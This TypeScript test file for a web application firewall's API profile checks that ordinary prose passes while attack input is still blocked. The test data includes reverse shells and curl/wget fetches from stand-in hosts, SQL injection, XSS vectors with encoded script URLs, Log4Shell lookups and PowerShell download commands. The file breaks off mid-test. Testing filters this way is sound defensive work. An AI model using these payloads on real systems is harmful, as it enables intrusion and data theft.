/**
 * Session 4 false-positive classes of the API profile's prose handling (src/waf/profile/view.ts families `c`, `p`
 * and `q`), through the real `waf` policy and CRS v4.28.0: each clean class passes the API profile (CRS blocks it),
 * and the equivalent real attack, in the same place, is still blocked.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { markdownFences } from '../../waf/profile/code.ts';
import { sanitizedHtml } from '../../waf/profile/html.ts';
import {
  arithmeticOnly,
  commandOnlyAtStart,
  latexMathOnly,
  markdownCodeText,
  powershellInert,
  proseQuotesInert,
  proseWaivers,
} from '../../waf/profile/view.ts';
import { fakeDeps, fakeRequestContext, instantiate, runRequest } from '../testing.ts';
import { policy } from './policy.ts';

const CRS = join(import.meta.dirname, '../../../../shared/crs/v4.28.0');
const rules = { setup: join(CRS, 'crs-setup.conf.example'), include: [join(CRS, 'rules')] };
const api = { rules };
const plain = { rules, profile: 'crs' };
const ua = { 'user-agent': 'curl/8.5.0', accept: 'application/json' };

async function run(config: unknown, doc: unknown) {
  const body = JSON.stringify(doc);
  const deps = fakeDeps('waf@route:test');
  const ctx = fakeRequestContext({
    method: 'POST',
    path: '/api/v4/projects/1/notes',
    headers: { ...ua, 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) },
    body: Buffer.from(body),
  });
  const { error } = await runRequest(instantiate(policy, config, deps), ctx);
  return { error, events: JSON.stringify(deps.events) };
}

describe('waf API profile: shell commands in markdown code spans (family c)', () => {
  test('prose citing a simple command in backticks passes; CRS blocks it', async () => {
    for (const body of [
      'I tried `ping api.example.com` and it times out from our office network.',
      "Could you run `ping staging.example.net` from the runner? I suspect it can't resolve it.",
      'chore: remove `rm -rf dist` from prepublish, tsc cleans it',
      'nit: can we use `printf` instead of `echo -e` here? `echo -e` is not portable.',
      'Bumps the base image to Debian 13: `apt-get` sources moved to deb822 format, so the Dockerfile changes.',
      // Spans are code quoted in prose, whatever shell syntax they hold (family k without a fence).
      'Install with `curl -fsSL https://get.example.dev/install.sh | sh` then run `example --version`.',
      'Steps: `docker compose up -d`, then `docker exec -it db psql -U postgres -c "\\dt"`.',
      'Maybe add a `sleep 2` before the retry? The API rate-limits us otherwise.',
      'I ran `SELECT count(*) FROM issues WHERE resolution IS NULL;` and got 0, which is wrong.',
    ]) {
      assert.equal((await run(plain, { body })).error?.reason?.startsWith('waf:'), true, body);
      assert.equal((await run(api, { body })).error, undefined, body);
    }
  });

  test('the same sentences with a real command injection are blocked', async () => {
    for (const body of [
      // A span that reads as a payload stays in the prose: a script from a bare IP address into a shell, an
      // identity probe, a separator or quote first, SQL after a closed string, a reverse shell.
      'I tried `curl -s http://203.0.113.9/x.sh | sh` and it times out from our office.',
      'I tried `ping $(whoami).evil.example` and it times out from our office network.',
      'Hi team, `whoami` thanks a lot for the quick help today',
      'When I run `; cat /etc/hosts` on the build host, the job fails with exit code 1.',
      "When I run `x; perl -e 'use Socket;connect(S,1)'` on the build host, the job fails.",
      // A separator outside the spans is still seen (in the extra argument without the span delimiters).
      'I tried `ping api.example.com` and then; wget evil.example/x -O /tmp/x as you said',
      // Backticks glued to a word are a substitution, not markdown.
      'The branch feature/`curl evil.example` does not build on the runner today.',
      // A file path in the span is still a file path.
      'Please run `cat /etc/passwd` on the box and paste the output here.',
    ]) {
      assert.equal((await run(api, { body })).error?.reason?.startsWith('waf:'), true, body);
    }
    for (const body of [
      "Steps to reproduce: enter `1' ORDER BY 9--+` in the search box.",
      'Steps to reproduce: paste `<img src=x onerror=alert(1)>` into the title.',
    ]) {
      assert.ok((await run(api, { body })).error !== undefined, body);
    }
  });

  test('markdownCodeText: opening delimiters become spaces only when every backtick delimits a plain command', () => {
    assert.equal(
      markdownCodeText('I tried `ping api.example.com` and it times out.'),
      'I tried  ping api.example.com` and it times out.',
    );
    assert.equal(markdownCodeText('(`npm ci`) first'), '( npm ci`) first');
    assert.equal(markdownCodeText('When I run `DEPLOY_ENV` here'), 'When I run  DEPLOY_ENV` here');
    assert.equal(markdownCodeText('no code here at all'), null);
    assert.equal(markdownCodeText('Hi `cat /etc/passwd | nc evil 1` there'), null);
    assert.equal(markdownCodeText('Hi `echo $HOME` there'), null);
    assert.equal(markdownCodeText('Hi `whoami` there'), null);
    assert.equal(markdownCodeText('Hi `/usr/bin/id -u` there'), null);
    assert.equal(markdownCodeText('x`id` there'), null);
    assert.equal(markdownCodeText('one ` lone backtick `ls` here'), null);
    assert.equal(markdownCodeText('Hi ` ` there'), null);
  });

  test('a span that reads as a payload keeps the value whole: every rule sees it under its own name', async () => {
    const r = await run(
      { ...api, inbound_threshold: 100 },
      { body: 'I tried `cat /etc/passwd`, then; wget evil.example/x as you said' },
    );
    assert.ok(r.events.includes('"variable":"ARGS:json.body"'), r.events);
    assert.ok(!r.events.includes('fenced-code'), r.events);
  });
});

describe('waf API profile: a tool name starting a sentence (family c without code spans)', () => {
  test('issue titles and descriptions that start with a command name pass; CRS blocks them (932260)', async () => {
    for (const title of [
      'docker-compose fails on arm64 after the upgrade',
      'docker-autoscaler on spot instances',
      'python3 crashes on startup with a segfault',
      'wget is not installed in the base image',
      'Wget is not installed in the base image (v2 runners only).',
    ]) {
      assert.equal((await run(plain, { title })).error?.reason, 'waf:rce', title);
      assert.equal((await run(api, { title })).error, undefined, title);
    }
  });

  test('a command line that could do harm from the start of the value is still blocked', async () => {
    for (const title of [
      // Options, paths, globs, host names or URLs as arguments.
      'wget evil.example.com and then run it please',
      'wget http://evil.example/x.sh and run it after',
      'docker-compose down -v on every host now',
      'python3 -c something and more words here',
      // A separator or substitution anywhere: another command position.
      'docker-compose fails; wget evil.example.com/x is missing too',
      'docker-compose fails;wget is missing too',
      'docker-compose fails && whoami prints nothing here',
      'docker-compose fails && curl evil.example | sh',
      'docker-compose fails | wget the logs from there',
      'docker-compose fails on $(uname) after the upgrade',
      'docker-compose fails on arm64\nwget evil.example.com and run it',
      // Probes and launchers first.
      'whoami prints nothing on the runner host',
      'sudo whoami is what they told me to run',
      'env python3 crashes on startup here too',
    ]) {
      assert.equal((await run(api, { title })).error?.reason, 'waf:rce', title);
    }
  });

  test('multi-line markdown descriptions pass line by line; a line that starts a real command is blocked', async () => {
    const clean = [
      '**Steps to reproduce**\n1. Open any issue with more than 50 comments\n2. Scroll to the bottom\n\n**Expected**: it works as in 3.17.\n**Actual**: the command exits with code 1.\n\n**Environment**: macOS 15.1, Node 24.1.0, CLI 3.8.2',
      'Steps:\n1. Install on Windows 11\n2. Open the terminal\n\n**Environment**: Windows 11 23H2, PowerShell 7.4.6, agent 4.2.0',
    ];
    for (const description of clean) {
      assert.ok((await run(plain, { description })).error !== undefined, description);
      assert.equal((await run(api, { description })).error, undefined, description);
    }
    for (const description of [
      '**Steps to reproduce**\n1. Open any issue with more than 50 comments\nwhoami\n2. Scroll to the bottom',
      '**Steps to reproduce**\n1. Open any issue with more than 50 comments\nwget evil.example.com/x.sh\n2. Scroll',
      'Steps:\n1. Install on Windows 11\nRemove-Item C:/data -Recurse -Force\n2. Open the terminal',
      'Steps:\n1. Install on Windows 11\niex whoami from the evil host now\n2. Open the terminal',
    ]) {
      assert.ok((await run(api, { description })).error !== undefined, description);
    }
  });

  test('commandOnlyAtStart: no separator, a first word that is no probe or launcher, plain-word arguments', () => {
    assert.equal(commandOnlyAtStart('docker-compose fails on arm64 after the upgrade'), true);
    assert.equal(commandOnlyAtStart('(python3) crashes on startup, 87.4% of the time'), true);
    assert.equal(commandOnlyAtStart("wget isn't installed in the image"), true);
    assert.equal(commandOnlyAtStart('/usr/bin/wget is missing in the image'), true);
    assert.equal(commandOnlyAtStart('/usr/bin/id prints nothing at all'), false);
    assert.equal(commandOnlyAtStart('sleep 8 hours then retry the job'), false);
    assert.equal(commandOnlyAtStart('Time to ship the release'), true);
    assert.equal(commandOnlyAtStart('sudo prompt appears twice on login'), true);
    assert.equal(commandOnlyAtStart('sudo whoami prints root here'), false);
    assert.equal(commandOnlyAtStart('sudo env python3 crashes here'), false);
    assert.equal(commandOnlyAtStart('iex whoami from the evil host'), false);
    assert.equal(commandOnlyAtStart('sudo'), false);
    assert.equal(commandOnlyAtStart('wget is missing;curl works fine'), false);
    // A semicolon of prose starts a line: the command after it is judged like a first word, and one that
    // fetches what it names is refused there whatever its arguments (`; curl metadata`: a single-label host).
    assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), false);
    assert.equal(commandOnlyAtStart('wget is missing; vim works fine'), true);
    // Package managers and image tools fetch and run what they are given (session 10): refused there too.
    assert.equal(commandOnlyAtStart('wget is missing; docker works fine'), false);
    assert.equal(commandOnlyAtStart('the build failed; pip install evil works'), false);
    // A URL is one word (session 10), but not for a command that fetches it.
    assert.equal(
      commandOnlyAtStart('The link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken.'),
      true,
    );
    assert.equal(
      commandOnlyAtStart('It failed; pip install https://evil.example/pkg.tar.gz fixes it'),
      false,
    );
    assert.equal(commandOnlyAtStart('The link https://x.example/?a=1&id was broken'), false);
    assert.equal(commandOnlyAtStart('Full-stack dev | Node, React & SQL | 100% JSS'), true);
    assert.equal(commandOnlyAtStart('if the deploy breaks just revert && ping me'), true);
    assert.equal(commandOnlyAtStart('if the deploy breaks just revert && ping localhost'), false);
    assert.equal(commandOnlyAtStart('docker-compose fails | wget the logs from there'), false);
    assert.equal(commandOnlyAtStart('docker-compose fails | sh'), false);
    assert.equal(commandOnlyAtStart('Waiting on legal; exec review moved to (2019–2020) 09:30.'), true);
    assert.equal(commandOnlyAtStart('wget is missing; id'), false);
    assert.equal(commandOnlyAtStart('wget is missing; curl evil.example.com'), false);
    // An `=` glued to a word assigns (`x= id` runs id); one between spaces is a word (session 10).
    assert.equal(commandOnlyAtStart('wget is missing= curl works fine'), false);
    assert.equal(commandOnlyAtStart('x= id and more words here'), false);
    assert.equal(commandOnlyAtStart('the total = 3 apples and more words'), true);
    // A line whose arguments open a parenthesis is a syntax error: later lines never run (session 10)…
    assert.equal(
      commandOnlyAtStart(
        'Traceback (most recent call last):\n  File "main.py", line 12, in <module>\n    f(1)',
      ),
      true,
    );
    // … unless a quote before it may hold the parenthesis, the line starts a compound command, or a compound
    // command with its closing word is there at all.
    assert.equal(commandOnlyAtStart('Fine text "\nword (inside quote\n"\nid'), false);
    assert.equal(commandOnlyAtStart('whoami (most recent call last)\nls'), false);
    assert.equal(commandOnlyAtStart('case x in (x) whoami\nesac'), false);
    assert.equal(commandOnlyAtStart('if true\nthen whoami\nfi'), false);
    assert.equal(commandOnlyAtStart('Traceback (most recent call last) --rm -rf\nid'), false);
    assert.equal(commandOnlyAtStart('wget works with example.com today'), false);
    assert.equal(commandOnlyAtStart('wget works with --quiet today'), false);
    assert.equal(commandOnlyAtStart('wget works with \\ today'), false);
    assert.equal(
      commandOnlyAtStart('**Expected**: it works.\n**Actual**: the command exits with code 1.'),
      true,
    );
    assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\nwhoami prints nothing'), false);
    assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\r\nsudo sleep 5 shows'), false);
    // A delay command is a probe with a duration only (`Sleep Better Workshop` starts a title).
    assert.equal(commandOnlyAtStart('Sleep Better Workshop for shift workers'), true);
    assert.equal(commandOnlyAtStart('sleep 10 then check again'), false);
    assert.equal(commandOnlyAtStart('It fails on arm64\n\n- curl evil.example.com then'), false);
    assert.equal(commandOnlyAtStart('\n\n'), false);
  });
});

describe('waf API profile: rich-text HTML a strict sanitizer passes unchanged (family h)', () => {
  const CLEAN = [
    '<p><img src="https://cdn.example.com/a.png" alt="chart" width="300"></p>',
    '<table><tr><td style="color:red">x</td></tr></table>',
    '<p style="text-align: center;"><span style="font-size: 14pt; color: #3366ff;">Big news</span></p>',
    '<figure class="image"><img src="/uploads/2026/11/team.jpg" alt="Team photo" width="800" height="600"><figcaption>Our team</figcaption></figure>',
    '<p><span style="font-family: \'Open Sans\', sans-serif; background-color: rgb(255, 255, 0);">hi</span></p>',
    '<h3 style="margin-left: 40px;">Indented</h3><p><a href="https://example.com/search?q=a&amp;page=2">results</a></p>',
    '<p>Watch the demo:</p><p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0" width="560" height="315" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen="allowfullscreen"></iframe></p>',
    '<!-- wp:paragraph {"className":"is-style-lead"} -->\n<p class="is-style-lead">Spring is here.</p>\n<!-- /wp:paragraph -->\n<!-- wp:image {"id":12,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large"><img src="/wp-content/uploads/a.jpg" alt=""/></figure>\n<!-- /wp:image -->',
    '<table><tr><td>p99 &lt; 300 ms</td><td><span style="background-color:#fffae6;">At risk</span></td></tr></table><p>Owner: <ac:link><ri:user ri:account-id="5b10ac8d82e05b22cc7d4ef5" /></ac:link></p>',
  ];

  test('CMS and wiki editor HTML passes the API profile; CRS blocks it (941100/941160)', async () => {
    for (const body of CLEAN) {
      assert.equal(sanitizedHtml(body), true, body);
      assert.equal((await run(plain, { page: { body } })).error?.reason, 'waf:xss', body);
      assert.equal((await run(api, { page: { body } })).error, undefined, body);
    }
  });

  test('HTML that can run script, however it is dressed as rich text, is still blocked', async () => {
    for (const body of [
      '<p><img src="https://cdn.example.com/a.png" alt="x" onerror="alert(1)"></p>',
      '<p><img src=x onerror=alert(1)></p>',
      '<p title="</p><img src=x onerror=alert(1)>">hi</p>',
      '<p><a href="javascript:alert(1)">docs</a></p>',
      '<p><a href="java&#x09;script:alert(1)">docs</a></p>',
      '<p><a href="&#106;avascript:alert(1)">docs</a></p>',
      '<p><a href="javascript&colon;alert(1)">docs</a></p>',
      '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">docs</a></p>',
      '<p><img src="javascript:alert(1)" alt="x"></p>',
      '<p style="background:url(javascript:alert(1))">hi</p>',
      '<p style="width: expression(alert(1))">hi</p>',
      '<details open ontoggle="alert(1)"><summary>x</summary></details>',
      '<p>hi</p><script>alert(1)</script>',
      '<p>hi</p><svg onload="alert(1)"></svg>',
      '<p>hi</p><iframe src="javascript:alert(1)"></iframe>',
      '<p>hi</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
      '<p>hi</p><iframe src="https://www.youtube.com.evil.example/embed/x" onload="alert(1)"></iframe>',
      '<p><!--<img src=x onerror=alert(1)>--></p>',
      '<!-- wp:paragraph --><p>hi</p><!-- /wp:paragraph --><script>alert(1)</script>',
      '<!-- wp:html {"a":"--><img src=x onerror=alert(1)>"} --><p>hi</p>',
      '<!-- wp:paragraph -- ><svg onload=alert(1)> --><p>hi</p>',
      '<p><img src="https://x.example/a.png" srcset="javascript:alert(1) 1x"></p>',
      '<p><ac:link onmouseover="alert(1)">x</ac:link></p>',
      '<p data-bind="html: \'<img src=x onerror=alert(1)>\'">x</p>',
      '<p><a href="https://x.example" title="x" onmouseover="alert(1)">x</a></p>',
    ]) {
      assert.equal(sanitizedHtml(body), false, body);
      assert.equal((await run(api, { page: { body } })).error?.reason, 'waf:xss', body);
    }
  });

  test('sanitizedHtml: allowlisted tags, attributes, URLs, styles and references only', () => {
    assert.equal(sanitizedHtml('no markup at all'), false);
    assert.equal(sanitizedHtml('5 < 6 and 7 > 3'), false);
    assert.equal(sanitizedHtml('<p>Q&A and 5 &lt; 6</p>'), true);
    assert.equal(sanitizedHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'), false);
    assert.equal(sanitizedHtml('<p>&#60;script&#62;</p>'), false);
    assert.equal(sanitizedHtml('<p id="location">clobber</p>'), false);
    assert.equal(sanitizedHtml('<!-- wp:quote --><blockquote><p>x</p></blockquote><!-- /wp:quote -->'), true);
    assert.equal(sanitizedHtml('<!-- note --><p>x</p>'), false);
    assert.equal(sanitizedHtml('<!-- wp:x {"a":"b -- c"} --><p>x</p>'), false);
    assert.equal(
      sanitizedHtml('<iframe src="https://player.vimeo.com/video/1" allowfullscreen></iframe>'),
      true,
    );
    assert.equal(sanitizedHtml('<iframe src="https://evil.example/phish"></iframe>'), false);
    assert.equal(sanitizedHtml('<iframe src="http://www.youtube.com/embed/x"></iframe>'), false);
    assert.equal(sanitizedHtml('<iframe src="https://www.youtube.com.evil.example/x"></iframe>'), false);
    assert.equal(sanitizedHtml('<iframe src="https://user@www.youtube.com/x"></iframe>'), false);
    assert.equal(sanitizedHtml('<form action="https://x"><input name="a"></form>'), false);
    assert.equal(sanitizedHtml('<a href="mailto:a@example.com" target="_blank">mail</a>'), true);
    assert.equal(sanitizedHtml('<a href="https://x" target="evil">x</a>'), false);
    assert.equal(sanitizedHtml('<a href="/docs/api#auth">x</a>'), true);
    assert.equal(sanitizedHtml('<a href="vbscript:msgbox(1)">x</a>'), false);
    assert.equal(sanitizedHtml('<p style="color: red; position: fixed">x</p>'), false);
    assert.equal(sanitizedHtml('<p style="color: red" style="x">x</p>'), false);
    assert.equal(sanitizedHtml('<xlink:a xlink:href="javascript:alert(1)">x</xlink:a>'), false);
    assert.equal(sanitizedHtml('<p>{{constructor.constructor("alert(1)")()}}</p>'), false);
    assert.equal(sanitizedHtml('<p>\u0024{jndi:ldap://x/a}</p>'), false);
    assert.equal(
      sanitizedHtml('<ul data-type="taskList"><li data-checked="true">Move the bus</li></ul>'),
      true,
    );
  });
});

describe('waf API profile: fenced code blocks in markdown prose (family k)', () => {
  test('issue comments with pasted shell, SQL, JavaScript, Python and YAML blocks pass; CRS blocks them', async () => {
    for (const body of [
      'I can reproduce this on main.\n\n```sh\nrm -rf node_modules package-lock.json && npm install\n```\n\nWill post an update tomorrow.',
      "Looked into it a bit more:\n\n```shell\nfind . -name '*.log' -mtime +7 -delete\n```\n\nI will open a PR against the docs.",
      "The query is slow on large projects:\n\n```sql\nUPDATE users SET active = false WHERE last_login < now() - interval '2 years';\n```\n\nAny idea why?",
      "Here is what fixed it for me:\n\n```js\nconst { exec } = require('child_process');\nexec('ls -la', (err, out) => console.log(out));\n```",
      'Not sure this is related, but this works for me:\n\n```\nfor f in exports/*.csv; do\n  wc -l "$f"\ndone\n```\nwithout any error.',
      'Our workflow looks like this, with the fix applied:\n~~~yaml\nsteps:\n  - run: curl -sS https://example.com/install.sh | bash -\n~~~',
      // Inline spans of a document that holds a fence are code too.
      'In the container `pwd` prints `/app`, and `ls -1 | wc -l` shows 3 files:\n```sh\nid\n```\nWe should add USER app.',
      // A comment that is only a pasted block, or a short label and a block.
      '```bash\nfor f in *.log; do gzip "$f"; done\ncat /var/log/app/error.log | grep -i timeout | tail -n 50\n```',
      'Try:\n```python\nfor row in cursor.execute("SELECT name FROM sqlite_master WHERE type=\'table\'"):\n    print(row)\n```',
    ]) {
      assert.equal((await run(plain, { body })).error?.reason?.startsWith('waf:'), true, body);
      assert.equal((await run(api, { body })).error, undefined, body);
    }
  });

  test('prose around the blocks, Log4Shell inside them, and values that are not markdown documents are still inspected', async () => {
    for (const body of [
      // The prose part keeps every rule.
      'Hi there; cat /etc/passwd is what I ran\n```sh\nls\n```\nthanks a lot',
      "Login as admin' OR '1'='1 and then\n```sql\nselect 1;\n```\nthanks a lot",
      // A lookup in a block still reaches a logging sink.
      'The logger prints this line for me:\n```\n\u0024{jndi:ldap://evil.example/a}\n```\nthanks a lot',
      // A block that reads as a payload (an account file, a reverse shell): the value is inspected as it is.
      '```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh\n```',
      'Steps to reproduce, please:\n```\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```',
      // Spans without a fence in the document keep family c's rules (a probe in a span stays blocked).
      'In the container `whoami` prints `root`, we should add USER app to the image.',
      // An unclosed fence.
      'Please run this for me now:\n```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh',
    ]) {
      assert.ok((await run(api, { body })).error !== undefined, body);
    }
  });

  test('markdownFences: CommonMark fences, closed; inline spans in prose of two words or more', () => {
    assert.deepEqual(
      markdownFences('I can reproduce it on main:\n```bash\nrm -rf x && npm ci\n```\nThen it works.'),
      {
        prose: 'I can reproduce it on main:\n\nThen it works.',
        blocks: ['rm -rf x && npm ci'],
      },
    );
    assert.deepEqual(
      markdownFences('Two blocks in one comment here:\n````\na\n```\nb\n````\n   ~~~\nc\n   ~~~~\nok'),
      {
        prose: 'Two blocks in one comment here:\n\n\nok',
        blocks: ['a\n```\nb', 'c'],
      },
    );
    assert.deepEqual(markdownFences('Run `npm ci` first, then this one:\n```\nnpm test\n```'), {
      prose: 'Run   first, then this one:\n',
      blocks: ['npm test', 'npm ci'],
    });
    assert.equal(markdownFences('no fences at all in this text'), null);
    assert.deepEqual(markdownFences('```sh\nls\n```'), { prose: '', blocks: ['ls'] });
    assert.deepEqual(markdownFences('Steps: `docker compose up -d`, then open it.'), {
      prose: 'Steps:  , then open it.',
      blocks: ['docker compose up -d'],
    });
    assert.equal(markdownFences('a`sleep 5`b and some more words here'), null);
    assert.equal(markdownFences('`sleep 5`'), null);
    assert.equal(markdownFences('Hi team, `; cat /etc/passwd` thanks'), null);
    assert.equal(markdownFences('Please run this for me:\n```sh\nls'), null);
    assert.equal(markdownFences('Please run this for me:\n```sh\nls\n~~~'), null);
    assert.equal(markdownFences('Please run ```ls``` for me right now'), null);
    assert.equal(markdownFences('Please run this for me:\n    ```sh\nls\n```'), null);
  });
});

describe('waf API profile: SQL keywords in prose, quoted or not (family q)', () => {
  test('prose with SQL words and prose quotations passes; CRS blocks it', async () => {
    for (const body of [
      "Having fun with Rust & Go; 'or' is my favourite keyword.",
      "Hi, the select committee report link on your site returns a 404 — can you fix it?\n\nHello! Your 'Having trouble?' link goes to a blank page.",
      'Select the default branch when the ref is empty',
    ]) {
      assert.equal((await run(plain, { body })).error?.reason, 'waf:sqli', body);
      assert.equal((await run(api, { body })).error, undefined, body);
    }
  });

  test('the same sentences with a real SQL injection are blocked', async () => {
    for (const body of [
      "Having fun with Rust & Go; 'or 1 or' is my favourite keyword.",
      "Having fun with Rust & Go; 'or' 1 is my favourite keyword.",
      "Having fun with Rust & Go' or '1'='1 is my favourite keyword.",
      "Hi, the select committee report link on your site returns a 404' UNION SELECT password FROM users--",
      "Hello there it's me'; DROP TABLE users; -- thanks a lot",
      'Select the default branch when the ref is empty and sleep(5) passes',
      "Hi friend 'union select password from users where name like' there thanks a lot",
    ]) {
      assert.equal((await run(api, { body })).error?.reason, 'waf:sqli', body);
    }
  });

  test('proseQuotesInert: quotations and apostrophes in sentences, not break-outs', () => {
    assert.equal(proseQuotesInert("Having fun with Rust & Go; 'or' is my favourite keyword."), true);
    assert.equal(proseQuotesInert('The "Select all" checkbox does nothing, it\'s broken.'), true);
    assert.equal(proseQuotesInert("Zoë D'Angelo asked about 'Having trouble?' links"), true);
    assert.equal(proseQuotesInert("Hi 'or 1 or' there friend"), false);
    assert.equal(proseQuotesInert("Hi 'or' 1 there friend"), false);
    assert.equal(proseQuotesInert("Hi there' or 'a' like 'a"), false);
    assert.equal(proseQuotesInert("the users' data is gone"), false);
    assert.equal(proseQuotesInert('Hi there sleep(5) friend'), false);
    assert.equal(proseQuotesInert('1 or 1 is true'), false);
    assert.equal(proseQuotesInert('select the name from the list please'), false);
    assert.equal(proseQuotesInert('id; drop table users'), false);
  });

  test('families c and q need four words in JSON; a search phrase in a query string is judged for q at any length', () => {
    assert.equal(proseWaivers("use 'or' here"), '');
    assert.equal(proseWaivers("use 'or' here", 2).includes('q'), true);
    assert.equal(proseWaivers('"select committee" report', 2).includes('q'), true);
    assert.equal(proseWaivers("'or 1' here", 2).includes('q'), false);
    assert.equal(proseWaivers('"select password from users"', 2).includes('q'), false);
    assert.equal(proseWaivers("use 'or' here now please", 2).includes('q'), true);
    assert.equal(proseWaivers('try `ping` it', 2).includes('c'), false);
  });
});

describe('waf API profile: status lines of numbers (family q without prose)', () => {
  test('percentages and signed changes pass; CRS blocks them (libinjection n1o(1)', async () => {
    for (const text of ['Coverage 87.4% (+0.3%)', 'Coverage 91.2% (+0.4%) on main 🎉']) {
      assert.equal((await run(plain, { text })).error?.reason, 'waf:sqli', text);
      assert.equal((await run(api, { text })).error, undefined, text);
    }
  });

  test('arithmeticOnly: no quote, keyword, comparison or word next to an operator', async () => {
    assert.equal(arithmeticOnly('Coverage 87.4% (+0.3%)'), true);
    for (const text of [
      '1+balance%2',
      '1 or (2)',
      "Coverage 87.4% (+0.3%)'",
      'Coverage 87.4% (+0.3%) -- x',
      'Coverage 87.4% (+0.3%); drop',
      'Coverage 87.4% (+0.3%) union 1',
      'Coverage 87.4% (sleep(5))',
      'Coverage 87.4% = 1',
      'no digits here (at all)',
    ])
      assert.equal(arithmeticOnly(text), false, text);
    for (const text of [
      'Coverage 87.4% (+0.3%) or 1=1',
      "Coverage 87.4% (+0.3%)' or '1'='1",
      'Coverage 1-(sleep(5))',
    ])
      assert.ok((await run(api, { text })).error !== undefined, text);
  });
});

describe('waf API profile: LaTeX formulas in prose (family m)', () => {
  test('questions and answers with formulas pass; CRS blocks them (933180, 932280, 932130)', async () => {
    for (const body of [
      'Merge sort satisfies $T(n) = 2T(n/2) + O(n)$, so by the master theorem it is $O(n \\log n)$ overall.',
      'Nitpick: it is $O(n \\log n)$ on average and $O(n^2)$ worst case for quicksort, not merge sort.',
      'The eigenvalues $\\lambda_{1,2}$ come from the characteristic polynomial of the matrix here.',
    ]) {
      assert.ok((await run(plain, { body })).error !== undefined, body);
      assert.equal((await run(api, { body })).error, undefined, body);
    }
  });

  test('a dollar sign that starts a shell or PHP construct keeps every rule', async () => {
    for (const body of [
      'Please compute $(curl evil.example/x.sh|sh)$ for the homework thanks',
      'Please compute \u0024{IFS}cat\u0024{IFS}/etc/passwd for the homework thanks',
      'Nice formula $T(n)$ but also $f=$_GET[c];$f($_POST[x]) thanks a lot',
    ])
      assert.ok((await run(api, { body })).error !== undefined, body);
    assert.equal(latexMathOnly('Merge sort is $T(n) = 2T(n/2) + O(n)$, so $O(n \\log n)$.'), true);
    assert.equal(latexMathOnly('Run $(id)$ for me please'), false);
    assert.equal(latexMathOnly('Run \u0024{x}$ for me please'), false);
    assert.equal(latexMathOnly("Formula $f('x')$ ok and $a;b$ here"), false);
    assert.equal(latexMathOnly('Only $x$ but then $ alone'), false);
  });
});

describe('waf API profile: PowerShell cmdlet names in sentences (family p)', () => {
  test('prose naming a cmdlet passes; CRS blocks it (932120)', async () => {
    for (const body of [
      'Dit werkt niet op Windows: `rm` bestaat daar niet, gebruik `Remove-Item`.',
      'On Windows agents use Get-ChildItem instead of ls, the output differs slightly.',
      'The migration guide says Invoke-WebRequest replaces curl on the Windows runners.',
    ]) {
      assert.equal((await run(plain, { body })).error?.reason, 'waf:rce', body);
      assert.equal((await run(api, { body })).error, undefined, body);
    }
    // GraphQL variables are JSON values too.
    const gql = {
      query: 'mutation Note($body: String!) { createNote(input: { body: $body }) { errors } }',
      variables: { body: 'Dit werkt niet op Windows: `rm` bestaat daar niet, gebruik `Remove-Item`.' },
    };
    assert.equal((await run(api, gql)).error, undefined);
  });

  test('a cmdlet that can run is still blocked: separators, subexpressions, quotes, first word, launchers', async () => {
    for (const body of [
      'Hi team, ; Remove-Item -Recurse -Force C:/inetpub thanks a lot',
      'Hi team, | Invoke-Expression thanks a lot for the help today',
      'Hello there, please look at this for me: $(Invoke-WebRequest http://evil.example/a.ps1)',
      'Hi team, & Start-Process calc.exe thanks a lot for the help',
      "Hi team, ' + (Invoke-WebRequest http://evil.example) + ' thanks a lot",
      'Hi team, the fix is easy\nRemove-Item C:/inetpub/wwwroot/web.config\nthanks a lot',
      'Hi team, \u201d; Remove-Item C:/inetpub; \u201c thanks a lot',
      'Invoke-WebRequest http://evil.example/a.ps1 is what I typed into the box',
      'powershell Invoke-WebRequest evil.example is what I typed into the box',
      'cmd /c powershell Stop-Computer now please folks',
      'Hi team, %COMSPEC% /c Remove-Item everything thanks a lot',
      'Hi team, @(Get-Process) thanks a lot for the quick help',
    ]) {
      const r = await run(api, { body });
      assert.equal(r.error?.reason, 'waf:rce', body);
    }
  });

  test('powershellInert: a cmdlet name as an argument of an ordinary first word, without syntax', () => {
    assert.equal(powershellInert('On Windows use `Remove-Item` instead of rm.'), true);
    assert.equal(powershellInert('Windows users: open C:\\Program Files\\Acme and run setup.exe.'), true);
    for (const t of [
      'Remove-Item the build folder before you start again',
      '  "Remove-Item" the build folder',
      'powershell is how I run Get-Process here',
      'PWSH then Get-Process please',
      'iex Get-Process thanks a lot',
      'start Stop-Computer please now',
      'use Get-Process; then Stop-Process',
      'use Get-Process | Stop-Process',
      'say $env:PATH please',
      'it’s Get-Process now',
      'a\rGet-Process',
      '',
    ])
      assert.equal(powershellInert(t), false, t);
  });

  test('family p needs four words and is never granted in a query string', async () => {
    assert.equal(proseWaivers('use Get-Process now'), '');
    assert.ok(proseWaivers('please use Get-Process now').includes('p'));
    const deps = fakeDeps('waf@route:test');
    const ctx = fakeRequestContext({
      method: 'GET',
      path: '/api/search',
      query: 'q=please+use+Get-Process+instead',
      headers: ua,
    });
    const { error } = await runRequest(instantiate(policy, api, deps), ctx);
    assert.equal(error?.reason, 'waf:rce');
  });
});

describe('waf API profile: code fields, code samples in rich text, editor HTML (session 6)', () => {
  test('a multi-line program in a field named for code passes out of the box; CRS blocks it', async () => {
    for (const doc of [
      {
        language: 'bash',
        code: '#!/bin/bash\nset -euo pipefail\nfor f in "$@"; do\n  wc -l "$f"\ndone | sort -n\n',
      },
      { variables: { input: { code: 'x = eval(input("expr> "))\nprint(x)\n' } } },
      {
        files: [
          {
            name: 'fib.py',
            content: 'def fib(n):\n    a, b = 0, 1\n    return a\n\nprint([fib(i) for i in range(10)])\n',
          },
        ],
      },
      {
